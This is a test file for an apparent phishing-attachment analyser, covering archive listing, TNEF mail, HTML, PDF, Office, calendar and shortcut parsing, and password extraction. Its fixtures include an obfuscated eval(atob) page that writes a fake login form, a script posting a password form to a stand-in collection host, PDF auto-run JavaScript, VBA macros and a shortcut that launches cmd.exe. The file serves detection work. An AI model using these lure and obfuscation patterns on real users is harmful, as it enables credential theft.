import { gzipSync, strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { files } from '../../findings/attached-files.fixture.ts';
import { readTnef } from '../../message/containers/tnef.ts';
import { PROPERTY as P } from '../../message/containers/mapi-properties.ts';
import { tnefProperties, writeCompoundFile, writeTnef } from '../../message/containers/outlook-writer.fixture.ts';
import { trueTypeOf } from './file-type.ts';
import type { ArchiveContent, FileContent } from './model.ts';
import { passwordsIn } from './passwords.ts';
import { readFile } from './read-file.ts';
import { freshBudget, Workbench } from './workbench.ts';
import type { Reading } from './workbench.ts';

const bench = (): Workbench => new Workbench({ tools: null, openWinmail: readTnef, budget: freshBudget(), hasFewWords: true, passwords: () => [], recipients: () => ['reader@home.example'] });
const read = (bytes: Uint8Array, fileName: string, mediaType = ''): Promise<Reading> => readFile({ bytes, fileName, mediaType, trueType: trueTypeOf(bytes), depth: 0 }, bench());
const content = async (bytes: Uint8Array, name: string): Promise<FileContent | null> => {
  const { outcome } = await read(bytes, name);
  return outcome.kind === 'found' ? outcome.value : null;
};
const names = (told: FileContent | null): readonly string[] => (told as ArchiveContent).files.map((file) => file.name);

function tar(entries: Readonly<Record<string, string>>): Uint8Array {
  const blocks = Object.entries(entries).flatMap(([name, body]) => {
    const head = new Uint8Array(512);
    head.set(strToU8(name), 0);
    head.set(strToU8(`${body.length.toString(8).padStart(11, '0')}\0`), 124);
    head.set(strToU8('0\0ustar'.slice(1)), 256);
    head[156] = 0x30;
    head.set(strToU8('ustar'), 257);
    const data = new Uint8Array(Math.ceil(body.length / 512) * 512);
    data.set(strToU8(body));
    return [head, data];
  });
  return Uint8Array.from([...blocks, new Uint8Array(1024)].flatMap((block) => [...block]));
}

/** One file in the root of an image. */
function iso(name: string, body: string): Uint8Array {
  const image = new Uint8Array(22 * 2048);
  const view = new DataView(image.buffer);
  const record = (at: number, title: Uint8Array, sector: number, size: number, flags: number): number => {
    const length = 33 + title.length + ((title.length + 1) % 2);
    image[at] = length;
    view.setUint32(at + 2, sector, true);
    view.setUint32(at + 10, size, true);
    image[at + 25] = flags;
    image[at + 32] = title.length;
    image.set(title, at + 33);
    return at + length;
  };
  image.set([1, ...strToU8('CD001')], 16 * 2048);
  record(16 * 2048 + 156, Uint8Array.of(0), 20, 2048, 2);
  image.set([255, ...strToU8('CD001')], 17 * 2048);
  const next = record(record(20 * 2048, Uint8Array.of(0), 20, 2048, 2), Uint8Array.of(1), 20, 2048, 2);
  record(next, strToU8(`${name};1`), 21, body.length, 0);
  image.set(strToU8(body), 21 * 2048);
  return image;
}

/** What Outlook makes of a mail with a link and a program. */
const winmail = (): Uint8Array => writeTnef([
  [0x00069003, tnefProperties(new Map([[P.body, 'Please pay: https://collect.example/in']]))], [0x00018004, strToU8('Invoice\0')],
  [0x00069002, new Uint8Array(14)], [0x0006800f, strToU8('MZ')], [0x00069005, tnefProperties(new Map([[P.attachLongFileName, '請求書.exe']]))],
]);

describe('archives are listed by what they are', () => {
  it.each([
    ['zip', zipSync({ 'a/b.txt': strToU8('x'), '請求書.js': strToU8('//') }), ['a/b.txt', '請求書.js']],
    ['tar', tar({ 'one.txt': 'hello', 'two.exe': 'MZ' }), ['one.txt', 'two.exe']],
    ['tar', gzipSync(tar({ 'one.txt': 'hello' })), ['one.txt']],
    ['gzip', gzipSync(strToU8('hello'), { filename: 'bill.js' }), ['bill.js']],
    ['iso', iso('RUN.LNK', 'L'), ['RUN.LNK']],
    ['zip', files.lockedZip().bytes, ['invoice.js']],
    ['tnef', winmail(), ['請求書.exe']],
  ])('%s', async (kind, bytes, expected) => {
    const told = await content(bytes, 'x.bin');
    expect(told).toMatchObject({ format: 'archive', kind });
    expect(names(told)).toEqual(expected);
  });

  it('a RAR of either version by its headers, and one with hidden names as such', async () => {
    const rar5 = [...strToU8('Rar!\x1a\x07\x01\0', true), 0, 0, 0, 0, 3, 1, 0, 0, 0, 0, 0, 0, 14, 2, 0, 0, 5, 0, 0, 0, 6, ...strToU8('a.html')];
    expect(names(await content(Uint8Array.from(rar5), 'a.rar'))).toEqual(['a.html']);
    const hidden = [...strToU8('Rar!\x1a\x07\x01\0', true), 0, 0, 0, 0, 4, 4, 0, 0, 0];
    expect(await content(Uint8Array.from(hidden), 'a.rar')).toMatchObject({ isEncrypted: true, areNamesHidden: true, files: [] });
  });

  it('a winmail.dat with its links, its words and the files in it; a broken one is told as such', async () => {
    const told = await read(winmail(), 'winmail.dat');
    expect([told.links.map(({ href }) => href), told.texts.map(({ title }) => title), told.inner.map(({ name }) => name)]).toEqual([['https://collect.example/in'], ['Invoice'], ['請求書.exe']]);
    expect((await read(Uint8Array.of(0x78, 0x9f, 0x3e, 0x22, 1), 'winmail.dat')).outcome).toMatchObject({ kind: 'failed', code: 'tnef-broken' });
  });

  it('a mail inside a winmail.dat is opened: its sender, its words, where it leads, and the file that it carries', async () => {
    const letter = writeTnef([
      [0x00018004, strToU8('Unpaid invoice\0')], [0x00069003, tnefProperties(new Map<number, string>([[P.body, 'Settle it at https://settle.example/p?id=AB12&u=1'], [0x0c1a, 'Billing'], [0x0c1f, 'billing@settle.example']]))],
      [0x00069002, new Uint8Array(14)], [0x0006800f, strToU8('MZ')], [0x00069005, tnefProperties(new Map([[P.attachLongFileName, 'pay.exe']]))],
    ]);
    // As Outlook nests one: an object, sixteen bytes that say of what kind, and the mail.
    const nested = tnefProperties(new Map<number, Uint8Array | string>([[0x3701, Uint8Array.from([...new Uint8Array(16), ...letter])], [0x3001, 'Fwd: Unpaid invoice']]));
    nested.set([0x0d, 0x00], 4);
    const bytes = writeTnef([[0x00018004, strToU8('Fwd\0')], [0x00069002, new Uint8Array(14)], [0x00069005, nested]]);
    const told = await read(bytes, 'winmail.dat');
    expect(told.inner.map(({ name }) => name)).toEqual(['Fwd: Unpaid invoice.eml', 'Fwd: Unpaid invoice.eml/pay.exe']);
    const inner = await told.inner[0]?.read();
    const mail = await read(inner?.kind === 'found' ? inner.value : new Uint8Array(), 'Fwd: Unpaid invoice.eml');
    expect(mail.outcome).toMatchObject({ kind: 'found', value: { format: 'mail', from: 'Billing <billing@settle.example>', subject: 'Unpaid invoice' } });
    expect(mail.links.map(({ href }) => href)).toEqual(['https://settle.example/p?id=AB12&u=1']);
    expect(mail.texts[0]?.text).toContain('Settle it at');
  });

  it('a 7z is told as not looked into where no tool is there', async () => {
    expect((await read(Uint8Array.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), 'a.7z')).outcome).toEqual({ kind: 'skipped', reason: 'not-installed' });
  });
});

describe('a page', () => {
  const page = async (source: string, name = 'a.html') => (await content(strToU8(source), name)) as Extract<FileContent, { format: 'page' }>;

  it('that code writes is read as the page it becomes, three layers deep', async () => {
    const inner = '<title>Sign in</title><form action="https://collect.example/x"><input type="password"></form>';
    const middle = `<script>document.write(unescape("${[...inner].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}"))</script>`;
    const told = await page(`<script>eval(atob("${btoa(`document.write('${middle.replaceAll("'", "\\'")}')`)}"))</script>`);
    expect(told).toMatchObject({ title: 'Sign in', forms: [{ asksPassword: true, action: 'https://collect.example/x' }] });
    expect(told.does).toEqual(expect.arrayContaining(['decodes', 'runs-text', 'script', 'writes-itself']));
  });

  it('tells where its script sends what is typed', async () => {
    const { links } = await read(strToU8('<form id="f"><input type="password"></form><script>fetch("https://collect.example/in",{method:"POST"})</script>'), 'a.html');
    expect(links.map((link) => link.href)).toEqual(['https://collect.example/in']);
  });

  it('that holds an archive as a list of numbers hides an archive', async () => {
    const numbers = [...zipSync({ 'a.js': strToU8('//') })].join(',');
    expect((await page(`<script>new Blob([new Uint8Array([${numbers}])])</script>`)).hides).toEqual(['application/zip']);
  });

  it('in UTF-16 is read too, and an SVG by its own root whatever it is called', async () => {
    const wide = Uint8Array.from([0xff, 0xfe, ...[...'<html><form><input type=password></form>'].flatMap((letter) => [letter.charCodeAt(0), 0])]);
    expect(await content(wide, 'a.html')).toMatchObject({ forms: [{ asksPassword: true }] });
    expect(await content(strToU8('<?xml version="1.0"?><svg><script>1</script></svg>'), 'a.bin')).toMatchObject({ format: 'page', isSvg: true, does: ['script'] });
  });
});

describe('a document', () => {
  it('PDF: its links are found in packed objects, in escapes and in hexadecimal', async () => {
    const link = 'https://evil.example/x';
    for (const bytes of [files.pdf({ link, isPacked: true }).bytes, files.pdf({ link: link.replace('/x', '/\\170') }).bytes]) expect((await read(bytes, 'a.pdf')).links.map(({ href }) => href)).toEqual([link]);
    const hex = [...link].map((letter) => letter.charCodeAt(0).toString(16)).join('');
    expect((await read(strToU8(`%PDF-1.4 1 0 obj << /S /URI /U#52I <${hex}> >> endobj`), 'a.pdf')).links.map(({ href }) => href)).toEqual([link]);
  });

  it('PDF: a script that an action opens by reference is found, a page that it opens at is none', async () => {
    const script = strToU8('%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 9 0 R >> endobj\n9 0 obj << /S /Java#53cript /JS (x) >> endobj');
    expect(await content(script, 'a.pdf')).toMatchObject({ opensByItself: 'script', hasScript: true });
    expect(await content(strToU8('%PDF-1.4\n1 0 obj << /OpenAction [3 0 R /Fit] >> endobj'), 'a.pdf')).toMatchObject({ opensByItself: null, hasScript: false });
  });

  it('of old Office: macros, packed objects and addresses', async () => {
    const macro = '\x01\x13\xb0\0Attribut\0e VB_Na';
    const stream = Uint8Array.from([2, 0, 0, 0, 2, 0, ...strToU8('run.js\0C:\\run.js\0', true), 0, 0, 3, 0, 3, 0, 0, 0, 97, 98, 0, 4, 0, 0, 0, 47, 47, 49, 50]);
    const bytes = writeCompoundFile({ WordDocument: strToU8('xxxxxxxxxxxx see https://evil.example/doc now'), Macros: { VBA: { Module1: strToU8(macro, true) } }, ObjectPool: { _1: { '\u0001Ole10Native': stream } } });
    const told = await read(bytes, 'a.doc');
    expect(told.outcome).toMatchObject({ kind: 'found', value: { format: 'office', kind: 'ole', application: 'word', hasMacros: true, objects: ['run.js'] } });
    expect(told.links.map(({ href }) => href)).toEqual(['https://evil.example/doc']);
    expect(told.inner.map(({ name, sizeBytes }) => [name, sizeBytes])).toEqual([['run.js', 4]]);
  });

  it('of new Office: hyperlinks are links, and only they', async () => {
    const relation = (type: string, target: string): string => `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`;
    const { links, outcome } = await read(files.docx({ relations: relation('hyperlink', 'https://a.example/?b=1&amp;c=2') + relation('oleObject', '\\\\198.51.100.7\\x') }).bytes, 'a.docx');
    expect(links.map(({ href }) => href)).toEqual(['https://a.example/?b=1&c=2']);
    expect(outcome).toMatchObject({ value: { external: [{ kind: 'object', target: '\\\\198.51.100.7\\x' }] } });
  });

  it('calendar: folded lines, quoted names with colons, escaped line ends', async () => {
    const told = await read(strToU8('BEGIN:VCALENDAR\r\nORGANIZER;CN="Pay: roll":mailto:a@b.exa\r\n mple\r\nSUMMARY:Rev\u200biew\r\nDESCRIPTION:Open\\nhttps://evil.example/x\r\nEND:VCALENDAR'), 'i.ics');
    expect(told.outcome).toMatchObject({ value: { organizer: 'a@b.example', organizerName: 'Pay: roll', invisible: 1 } });
    expect(told.links.map(({ href }) => href)).toEqual(['https://evil.example/x']);
  });

  it('shortcut: what it starts, with what words', async () => {
    expect(await content(files.lnk('..\\..\\Windows\\System32\\cmd.exe', '/c start https://evil.example/a').bytes, 'a.lnk'))
      .toMatchObject({ target: '..\\..\\Windows\\System32\\cmd.exe', arguments: '/c start https://evil.example/a', startsInterpreter: true });
  });
});

describe('passwords that stand in a mail', () => {
  it.each([
    ['解凍パスワード：1234', ['1234']], ['パスワードは「Abc-99」です。', ['Abc-99']], ['The password is 7731.', ['7731', '7731.']], ['ＰＷ：ｘｙｚ９９\n', ['xyz99']],
    ['password to open the file is: Sec!ret', ['Sec!ret']], ['パスワードは下記のとおりです。\n\nK9x-22\n', ['K9x-22']], ['We never ask for your password.', []], ['パスワードは別途お知らせします。', []],
  ])('%j', (text, expected) => expect(passwordsIn(text).slice(0, expected.length === 0 ? 9 : expected.length)).toEqual(expected));
});
